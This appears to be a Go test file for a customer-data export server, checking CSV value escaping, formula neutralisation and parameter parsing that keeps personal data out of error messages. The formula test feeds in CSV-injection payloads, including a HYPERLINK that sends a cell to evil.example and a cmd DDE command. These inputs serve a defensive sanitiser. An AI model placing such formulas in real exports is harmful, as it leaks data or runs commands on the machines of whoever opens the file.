package server

import (
	"bufio"
	"slices"
	"strings"
	"testing"

	"github.com/idgraph/cdp/graph"
)

// The values of one type share a CSV cell: joined by |, with | and \
// inside a value escaped by \, so that the cell splits back unambiguously.
func TestJoinValues(t *testing.T) {
	for _, c := range []struct {
		in   []string
		want string
	}{
		{nil, ``},
		{[]string{"a@example.com"}, `a@example.com`},
		{[]string{"a@example.com", "b@example.com"}, `a@example.com|b@example.com`},
		{[]string{`u|bob`}, `u\|bob`},
		{[]string{`c:\x`, `y|`}, `c:\\x|y\|`},
		{[]string{"", "x"}, `|x`},
	} {
		if got := joinValues(c.in); got != c.want {
			t.Errorf("joinValues(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// Parameters: defaults, every type the rules list, and nothing else.
// A CSV cell that a spreadsheet would run as a formula starts with an
// apostrophe; phones and other plain values are kept as they are.
func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example/?d="&B2,"Open")`: `'=HYPERLINK("https://evil.example/?d="&B2,"Open")`,
		"@SUM(A1)":               "'@SUM(A1)",
		"+SUM(A1)":               "'+SUM(A1)",
		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"\tx":                    "'\tx",
		"\rx":                    "'\rx",
		"+":                      "'+",
		"+14155550100":           "+14155550100",
		"-12.5":                  "-12.5",
		"-2-3":                   "'-2-3",
		"+1 (415) 555-0100":      "'+1 (415) 555-0100",
		"-1.2.3":                 "'-1.2.3",
		"-.5":                    "'-.5",
		"-5.":                    "'-5.",
		"ann@example.com":        "ann@example.com",
		"u-1":                    "u-1",
		"":                       "",
	} {
		if got := spreadsheetSafe(in); got != want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
	var b strings.Builder
	bw := bufio.NewWriter(&b)
	c := newCSVRows(bw, []string{"user_id", "phone"})
	if err := c.member("p_1", [][]string{{"=1+1"}, {"+14155550100"}}); err != nil {
		t.Fatal(err)
	}
	if err := c.flush(); err != nil {
		t.Fatal(err)
	}
	bw.Flush()
	if b.String() != "p_1,'=1+1,+14155550100\n" {
		t.Fatalf("CSV row %q", b.String())
	}
}

// A cell of several values of one type, such as a member's two phones,
// is left as it is when every value is a plain number (a phone in E.164
// included): the README promises phones are never changed, and such a
// cell holds nothing a spreadsheet could run. One value that is not keeps
// the cell guarded.
func TestSpreadsheetSafeSeveralValues(t *testing.T) {
	for _, c := range []struct {
		phones []string
		want   string
	}{
		{[]string{"+14155550100", "+14155550101"}, "p_1,+14155550100|+14155550101\n"},
		{[]string{"-12.5", "7"}, "p_1,-12.5|7\n"},
		{[]string{"+14155550100", "=1+1"}, "p_1,'+14155550100|=1+1\n"},
		{[]string{"+14155550100", "+SUM(A1)"}, "p_1,'+14155550100|+SUM(A1)\n"},
		{[]string{"=cmd", "+1"}, "p_1,'=cmd|+1\n"},
	} {
		var b strings.Builder
		bw := bufio.NewWriter(&b)
		r := newCSVRows(bw, []string{"phone"})
		if err := r.member("p_1", [][]string{c.phones}); err != nil {
			t.Fatal(err)
		}
		if err := r.flush(); err != nil {
			t.Fatal(err)
		}
		bw.Flush()
		if b.String() != c.want {
			t.Errorf("CSV row of %q: %q, want %q", c.phones, b.String(), c.want)
		}
	}
}

// A refused parameter is named, never echoed: a value pasted into the
// wrong parameter may be personal data, and the README promises that
// nothing of the request but an unknown identifier type is repeated.
func TestExportParamErrorsEchoNoValue(t *testing.T) {
	rules := graph.DefaultRules()
	const pasted = "ann@example.com"
	for _, c := range []struct {
		q    map[string][]string
		name string
	}{
		{map[string][]string{"format": {pasted}}, "format"},
		{map[string][]string{"hash": {pasted}}, "hash"},
		{map[string][]string{"identifiers": {pasted}}, "identifiers[0]"},
	} {
		_, err := parseExportParams(c.q, rules)
		if err == nil {
			t.Fatalf("%v: accepted", c.q)
		}
		if !strings.Contains(err.Error(), c.name) || strings.Contains(err.Error(), pasted) || strings.Contains(err.Error(), "ann") {
			t.Errorf("%v: error %q must name %s and not repeat the value", c.q, err, c.name)
		}
	}
}

func TestParseExportParams(t *testing.T) {
	rules := graph.DefaultRules()
	p, err := parseExportParams(map[string][]string{}, rules)
	if err != nil || p.format != "csv" || p.hash || !slices.Equal(p.types, []string{"email", "phone", "user_id"}) {
		t.Errorf("defaults: %+v %v", p, err)
	}
	p, err = parseExportParams(map[string][]string{"format": {"ndjson"}, "hash": {"sha256"}, "identifiers": {" device_id , anonymous_id"}}, rules)
	if err != nil || p.format != "ndjson" || !p.hash || !slices.Equal(p.types, []string{"device_id", "anonymous_id"}) {
		t.Errorf("all set: %+v %v", p, err)
	}
	if got := p.reason("seg_x"); got != "audience seg_x; format=ndjson; identifiers=device_id,anonymous_id; hash=sha256" {
		t.Errorf("reason %q", got)
	}
	for _, q := range []map[string][]string{
		{"format": {"CSV"}}, {"hash": {""}}, {"identifiers": {""}}, {"identifiers": {"crm_id"}},
		{"identifiers": {"email", "phone"}}, {"limit": {"10"}},
	} {
		if _, err := parseExportParams(q, rules); err == nil {
			t.Errorf("%v: accepted", q)
		}
	}
}

// An unknown parameter, or an unknown identifier type, is named as the
// collector names a payload's keys (graph.MessageKey): as sent, unless it
// looks like personal data itself (an email or a phone number pasted as a
// parameter's name), which is withheld.
func TestExportParamErrorsWithholdPersonalNames(t *testing.T) {
	rules := graph.DefaultRules()
	for _, c := range []struct {
		q          map[string][]string
		want, leak string
	}{
		{map[string][]string{"ann@example.com": {""}}, `unknown parameter "(withheld key)"`, "ann"},
		{map[string][]string{"+1 415 555 0167": {"x"}}, `unknown parameter "(withheld key)"`, "555"},
		{map[string][]string{"identifiers": {"email,p4155550167"}}, `identifiers[1]: unknown identifier type "(withheld key)"`, "4155550167"},
		{map[string][]string{"limit": {"10"}}, `unknown parameter "limit"`, ""},
		{map[string][]string{"identifiers": {"crm_id"}}, `unknown identifier type "crm_id"`, ""},
	} {
		_, err := parseExportParams(c.q, rules)
		if err == nil {
			t.Fatalf("%v: accepted", c.q)
		}
		if !strings.Contains(err.Error(), c.want) || (c.leak != "" && strings.Contains(err.Error(), c.leak)) {
			t.Errorf("%v: error %q, want it to say %s", c.q, err, c.want)
		}
	}
}
